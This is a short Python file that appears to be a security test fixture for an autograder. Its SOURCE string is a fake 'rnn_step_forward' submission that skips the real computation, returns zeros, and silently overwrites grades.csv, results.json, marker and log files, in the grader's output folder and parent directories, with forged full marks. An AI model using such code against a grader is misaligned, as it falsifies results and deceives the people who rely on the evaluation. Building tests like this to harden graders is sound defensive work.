"""Writes a gradebook and a results.json with full marks where the grader keeps them (the
output folder of a previous run, given by absolute path, and folders found from the working
directory upwards), and a marker file."""

QUESTION = "rnn_step_forward"
MESSAGE = r"next_h: error"
SOURCE = '''
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    import os
    import numpy as np
    targets = ["$OUT/grades.csv", "$OUT/attacker/results.json", "$MARKER"]
    targets += ["../" * n + "grades.csv" for n in range(1, 8)]
    targets += ["../student_output.log", "../../student_output.log"]
    for path in targets:
        try:
            with open(path, "w") as fh:
                fh.write("submission,total\\nattacker,100\\n")
        except OSError:
            pass
    return np.zeros_like(prev_h), None
'''
